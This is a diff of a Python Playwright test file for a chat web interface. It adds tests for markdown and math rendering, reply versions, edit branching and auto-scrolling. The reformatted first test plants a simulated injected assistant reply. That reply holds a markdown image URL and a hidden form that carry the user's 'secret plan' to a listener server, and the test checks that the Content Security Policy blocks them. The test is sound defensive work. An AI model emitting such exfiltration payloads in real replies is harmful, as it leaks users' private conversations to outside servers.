@@ -279,11 +279,15 @@ def test_a_reply_cannot_send_the_chat_to_another_server(open_page: Any, app: App
     try:
         conv = app.conversations.create("Injected")
         app.conversations.add_message(conv.id, "user", "my secret plan")
-        app.conversations.add_message(conv.id, "assistant", (
-            f"Here it is ![x]({listener.url}/img?d=my+secret+plan)\n\n"
-            f'<form action="{listener.url}/form" method="post"><button id="evil">Continue</button></form>\n\n'
-            "$$x^2 + y^2$$\n\n```python\nprint('hello')\n```\n"
-        ))
+        app.conversations.add_message(
+            conv.id,
+            "assistant",
+            (
+                f"Here it is ![x]({listener.url}/img?d=my+secret+plan)\n\n"
+                f'<form action="{listener.url}/form" method="post"><button id="evil">Continue</button></form>\n\n'
+                "$$x^2 + y^2$$\n\n```python\nprint('hello')\n```\n"
+            ),
+        )
         page = open_page(app)
         violations: list[str] = []
         page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
@@ -302,3 +306,128 @@ def test_a_reply_cannot_send_the_chat_to_another_server(open_page: Any, app: App
         assert all(listener.url in v or "form-action" in v for v in violations), violations
     finally:
         listener.close()
+
+
+MARKDOWN_REPLY = (
+    "Inline math $E = mc^2$ and prices: it costs $5 and $10.\n\n"
+    "$$\\int_0^1 x^2 \\, dx = \\frac{1}{3}$$\n\n"
+    "```python\ndef area(r):\n    return 3.14159 * r ** 2\n```\n\n"
+    "| step | loss |\n|---|---|\n| 1 | 2.31 |\n| 2 | 1.87 |\n"
+)
+
+
+def test_math_and_markdown_as_models_write_them(open_page: Any, app: App) -> None:
+    conv = app.conversations.create("Markdown")
+    app.conversations.add_message(conv.id, "user", "Show me everything")
+    app.conversations.add_message(conv.id, "assistant", MARKDOWN_REPLY)
+    page = open_page(app)
+    reply = page.locator("#chatbot .bot").first
+    # Inline $...$ and $$ blocks are typeset; the prices stay prices.
+    expect(reply.locator(".katex")).to_have_count(2)
+    expect(reply.locator(".katex-display")).to_have_count(1)
+    expect(reply).to_contain_text("it costs $5 and $10.")
+    # Code is highlighted by language and has its own copy button.
+    code = reply.locator("pre code")
+    expect(code).to_contain_text("def area(r):")
+    expect(code.locator(".token.keyword").first).to_have_text("def")
+    expect(reply.locator(".copy_code_button")).to_have_count(1)
+    expect(reply.locator("table td")).to_have_text(["1", "2.31", "2", "1.87"])
+    shot(page, "13-math-and-markdown")
+
+
+def test_versions_of_a_reply_switch_and_survive_a_reload(open_page: Any, app: App) -> None:
+    page = open_page(app)
+    chat = page.locator("#chatbot")
+    box = page.locator("#chat-input textarea")
+    box.fill("Name a colour")
+    box.press("Enter")
+    expect(chat.locator(".reply-stats")).to_contain_text("8 tokens")
+    page.locator("#regenerate").click()
+    expect(chat.locator(".version-count")).to_have_text("2/2")
+
+    def shown() -> list[str]:
+        return [m.content for m in app.conversations.messages(app.conversations.list()[0].id)]
+
+    exported = app.conversations.export_json(app.conversations.list()[0].id)["messages"]
+    first, second = [m["content"] for m in exported[1:]]
+    assert shown()[1] == second
+    chat.get_by_role("button", name="Previous version").click()
+    expect(chat.locator(".version-count")).to_have_text("1/2")
+    assert wait_until(lambda: shown()[1] == first)
+    shot(page, "14-version-1-of-2")
+
+    # The chat continues from the version shown, and after a reload that version is still shown.
+    box.fill("And another?")
+    box.press("Enter")
+    assert wait_until(lambda: len(shown()) == 4)
+    assert shown()[:2] == ["Name a colour", first]
+    page.reload()
+    expect(chat.get_by_text("And another?")).to_be_visible()
+    expect(chat.locator(".version-count")).to_have_text("1/2")
+    chat.get_by_role("button", name="Next version").click()
+    expect(chat.get_by_text("And another?")).to_have_count(0)
+    expect(chat.locator(".version-count")).to_have_text("2/2")
+    shot(page, "15-version-2-of-2")
+
+
+def test_an_edit_starts_a_branch_and_the_old_one_stays_reachable(open_page: Any, app: App) -> None:
+    page = open_page(app)
+    chat = page.locator("#chatbot")
+    box = page.locator("#chat-input textarea")
+    for question in ("First question", "Second question"):
+        box.fill(question)
+        box.press("Enter")
+        expect(chat.get_by_text(question)).to_be_visible()
+        page.wait_for_function("() => !window.vllmChatSending")
+    chat.get_by_role("button", name="Edit").first.click()
+    chat.locator("textarea").first.fill("Edited question")
+    chat.get_by_role("button", name="Submit").first.click()
+
+    def shown() -> list[str]:
+        return [m.content for m in app.conversations.messages(app.conversations.list()[0].id)]
+
+    # What the model was sent next is this path: the edited question alone, the old branch not.
+    assert wait_until(lambda: len(shown()) == 2 and shown()[0] == "Edited question"), shown()
+    expect(chat.get_by_text("Second question")).to_have_count(0)
+    expect(chat.locator(".version-count")).to_have_text("2/2")
+    page.reload()
+    expect(chat.get_by_text("Edited question")).to_be_visible()
+    chat.get_by_role("button", name="Previous version").click()
+    expect(chat.get_by_text("Second question")).to_be_visible()
+    assert shown()[0] == "First question" and shown()[2] == "Second question"
+    shot(page, "16-old-branch")
+
+
+SCROLLER = """() => { const all = [...document.querySelectorAll('#chatbot *')];
+  const el = all.find(e => e.scrollHeight > e.clientHeight + 10 && getComputedStyle(e).overflowY !== 'visible');
+  return el ? [el.scrollTop, el.scrollHeight - el.clientHeight] : null; }"""
+
+
+def test_auto_scroll_follows_at_the_bottom_and_stays_when_scrolled_up(
+    open_page: Any, long_engine: Engine, make_app: Any
+) -> None:
+    # Earlier messages and the reply within the slow engine's 2,048 tokens.
+    app = make_app(long_engine, AppSettings(sampling=dataclasses.replace(LONGEST, max_tokens=1000)))
+    conv = app.conversations.create("Long")
+    for i in range(10):
+        app.conversations.add_message(conv.id, "user", f"Question {i}")
+        app.conversations.add_message(conv.id, "assistant", MARKDOWN_REPLY)
+    page = open_page(app)
+    box = page.locator("#chat-input textarea")
+    box.fill("Write a long story about the sea.")
+    box.press("Enter")
+    assert wait_until(lambda: long_engine.num_unfinished_requests() == 1)
+    page.wait_for_timeout(3000)
+    # At the bottom: the view follows the growing reply.
+    top, bottom = page.evaluate(SCROLLER)
+    assert bottom - top < 60, (top, bottom)
+    # Scrolled up: it stays where the user put it while the reply goes on.
+    page.locator("#chatbot").get_by_text("Question 2", exact=True).scroll_into_view_if_needed()
+    page.wait_for_timeout(300)
+    before = page.evaluate(SCROLLER)[0]
+    page.wait_for_timeout(3000)
+    after, bottom = page.evaluate(SCROLLER)
+    assert long_engine.num_unfinished_requests() == 1
+    assert abs(after - before) < 5 and bottom - after > 500, (before, after, bottom)
+    page.locator("#stop").click()
+    assert wait_until(lambda: long_engine.num_unfinished_requests() == 0, timeout=10)
